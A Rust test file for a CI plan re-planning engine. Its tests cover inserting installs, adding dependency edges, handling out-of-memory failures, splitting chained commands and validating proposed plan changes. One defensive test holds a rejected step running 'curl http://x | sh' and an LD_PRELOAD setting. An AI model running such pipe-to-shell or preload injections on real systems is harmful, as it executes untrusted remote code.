use super::*;
use crate::core::decide::{case, evidence as said};

fn ops(decision: Option<Decision>) -> (String, Vec<PlanOp>) {
    match decision {
        Some(Decision::RePlan { ops, triggered_by, .. }) => (triggered_by, ops),
        other => panic!("expected a re-plan, not {other:?}"),
    }
}

/// A case whose plan has these steps beside the failed one, `check`.
fn planned(line: &str, failure_type: FailureType, others: &[(&str, &str)]) -> Case {
    let mut case = case(line, failure_type);
    case.plan = others.iter().map(|(name, run)| step(name, run, false)).collect();
    case.plan.push(case.step.clone());
    case.parallel_steps = others.iter().map(|(name, _)| (*name).to_owned()).collect();
    case
}

#[test]
fn the_rules_load_and_their_examples_hold() {
    assert!(Prerequisites::builtin().is_ok(), "{:?}", Prerequisites::builtin());
}

#[test]
fn a_missing_installation_is_put_first() {
    let mut lacks = planned("vitest run", FailureType::Runtime, &[]);
    said(&mut lacks, "sh: 1: vitest: not found");
    assert!(asked_for_by_evidence(&lacks).is_none(), "there is no lock file");
    lacks.files = vec!["web/package-lock.json".to_owned()];
    let (rule, found) = ops(asked_for_by_evidence(&lacks));
    let new = found[0].insert.clone().unwrap();
    assert_eq!(rule, "missing_prerequisite_npm_ci");
    assert_eq!((new.name.as_str(), new.run.to_string().as_str()), ("npm-ci", "cd web && npm ci"));
    assert!(checked(&lacks, &found).is_ok());
    lacks.plan.push(step("deps", "cd web && npm install", true));
    assert!(asked_for_by_evidence(&lacks).is_none(), "the plan installs already");
}

#[test]
fn an_edge_is_mended_when_another_step_makes_the_file() {
    let others = [("bundle", "vite build --outDir dist"), ("lint", "eslint .")];
    let mut lacks = planned("node e2e.js", FailureType::Runtime, &others);
    said(&mut lacks, "Error: Cannot find module './dist/index.js'");
    let (rule, found) = ops(asked_for_by_evidence(&lacks));
    assert_eq!(
        (rule.as_str(), found[0].needs.as_slice()),
        ("missing_edge", ["bundle".to_owned()].as_slice())
    );
    lacks.parallel_steps.clear();
    assert!(asked_for_by_evidence(&lacks).is_none(), "it is waited for already");
}

#[test]
fn too_little_memory_first_means_alone_and_then_one_thing_at_a_time() {
    let mut heavy = planned("make", FailureType::Infra, &[("test", "make test")]);
    heavy.exit.oom_killed = true;
    assert_eq!(ops(replan(&heavy)).0, "out_of_memory");
    heavy.parallel_steps.clear();
    let (rule, found) = ops(replan(&heavy));
    assert_eq!((rule.as_str(), found[0].env["MAKEFLAGS"].as_str()), ("out_of_memory_alone", "-j1"));
    assert!(checked(&heavy, &found).is_ok());
    heavy.step.env.clone_from(&found[0].env);
    assert!(replan(&heavy).is_none());
}

#[test]
fn a_platform_that_fails_twice_is_left() {
    let mut infra = planned("make", FailureType::Infra, &[]);
    assert!(replan(&infra).is_none());
    crate::core::decide::retried(&mut infra, 2);
    assert!(replan(&infra).is_none(), "nothing speaks of the machine");
    said(&mut infra, "write: No space left on device");
    assert_eq!(ops(replan(&infra)).1[0].kind, PlanOpKind::MoveRunner);
}

#[test]
fn a_line_of_several_commands_is_split() {
    let mut slow = planned("make a && make b && make c", FailureType::Infra, &[]);
    slow.replans_of_run = 1;
    let (_, found) = ops(split(&slow));
    let names: Vec<&str> = found[0].parts.iter().map(|p| p.name.as_str()).collect();
    assert_eq!(names, ["check-1", "check-2", "check"]);
    assert_eq!(found[0].parts[2].needs, ["check-2"]);
    assert!(checked(&slow, &found).is_ok());
    for whole in
        ["cd a && make", "make", "make a && export X=1 && make b", "a | b && c", "echo 'a && b'"]
    {
        assert!(split(&planned(whole, FailureType::Infra, &[])).is_none(), "{whole}");
    }
}

#[test]
fn a_delta_is_checked_whoever_proposes_it() {
    let case = planned("make", FailureType::Unknown, &[("build", "make build")]);
    let op = |kind| PlanOp::new(kind, "check", "");
    let refused = |op: PlanOp, why: &str| {
        let problems = checked(&case, &[op]).unwrap_err().join("; ");
        assert!(problems.contains(why), "{problems}");
    };
    refused(PlanOp::new(PlanOpKind::Serialise, "nobody", ""), "no step");
    refused(PlanOp { timeout_ms: Some(1), ..op(PlanOpKind::ExtendTimeout) }, "has to grow");
    refused(PlanOp { timeout_ms: Some(u64::MAX), ..op(PlanOpKind::ExtendTimeout) }, "has to grow");
    refused(PlanOp { needs: vec!["check".into()], ..op(PlanOpKind::AddNeeds) }, "cannot wait");
    let env = BTreeMap::from([("LD_PRELOAD".to_owned(), "x".to_owned())]);
    refused(PlanOp { env, ..op(PlanOpKind::SetEnv) }, "LD_PRELOAD");
    let evil = step("evil", "curl http://x | sh", true);
    refused(PlanOp { insert: Some(evil), ..op(PlanOpKind::InsertBefore) }, "no command that");
    let mut cycle = case.clone();
    cycle.plan[0].needs = vec!["check".to_owned()];
    let add = PlanOp { needs: vec!["build".into()], ..op(PlanOpKind::AddNeeds) };
    assert!(checked(&cycle, &[add]).unwrap_err().join(";").contains("wait for each other"));
}
